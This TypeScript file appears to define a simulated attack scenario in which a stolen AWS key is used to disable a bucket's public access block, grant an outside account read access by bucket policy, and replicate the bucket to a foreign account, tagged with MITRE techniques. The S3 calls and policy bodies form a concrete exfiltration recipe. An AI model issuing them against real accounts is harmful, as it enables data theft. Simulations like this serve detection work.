import { surveyBuckets } from '../attack/exfiltration';
import { askWhoAmI } from '../attack/reconnaissance';
import { keyHolders, takeKey } from '../attack/stolen-key';
import { MINUTE } from '../world/calendar';
import { defineScenario } from './scenario';

export default defineScenario({
  id: 'bucket-replication',
  title: 'The bucket copies itself out',
  description:
    'A stolen key opens a bucket to an outsider and lets it replicate to a foreign bucket: not one object is downloaded.',
  play(stage) {
    const incident = stage.incident('bucket-replication');
    const victim = stage.random.fork('victim').pick(keyHolders(stage));
    const { account } = victim;
    const { actor } = takeKey(stage, { victim, from: stage.opening }, incident);
    const { random } = actor.scene;
    askWhoAmI(actor, incident);
    const bucket = surveyBuckets(actor, account, incident);
    const { region } = bucket;
    const place = { bucketName: bucket.name, Host: `${bucket.name}.s3.${region}.amazonaws.com` };
    const outside = `${random.int(1, 9)}${random.digits(11)}`;
    actor.pause(random.int(5, 120) * MINUTE);
    if (random.chance(0.6)) {
      actor.call('s3:PutBucketPublicAccessBlock', {
        region,
        request: {
          ...place,
          publicAccessBlock: '',
          PublicAccessBlockConfiguration: {
            BlockPublicAcls: false,
            IgnorePublicAcls: false,
            BlockPublicPolicy: false,
            RestrictPublicBuckets: false,
          },
        },
      });
      incident.addTechniques('T1562.007', 'T1686.001');
    }
    actor.call('s3:PutBucketPolicy', {
      region,
      request: {
        ...place,
        policy: '',
        bucketPolicy: {
          Version: '2012-10-17',
          Statement: [
            {
              Effect: 'Allow',
              Principal: random.chance(0.3) ? '*' : { AWS: `arn:aws:iam::${outside}:root` },
              Action: ['s3:GetObject', 's3:ListBucket'],
              Resource: [`arn:aws:s3:::${bucket.name}`, `arn:aws:s3:::${bucket.name}/*`],
            },
          ],
        },
      },
    });
    actor.call('s3:PutBucketVersioning', {
      region,
      request: { ...place, versioning: '', VersioningConfiguration: { Status: 'Enabled' } },
    });
    actor.call('s3:PutBucketReplication', {
      region,
      request: {
        ...place,
        replication: '',
        ReplicationConfiguration: {
          Role: `arn:aws:iam::${account.id}:role/service-role/s3-replication`,
          Rule: {
            Status: 'Enabled',
            Priority: 1,
            Destination: {
              Bucket: `arn:aws:s3:::${random.pick(['archive', 'mirror', 'dr-copy'])}-${random.hex(6)}`,
              Account: outside,
            },
          },
        },
      },
    });
    incident.addTechniques('T1537');
  },
});
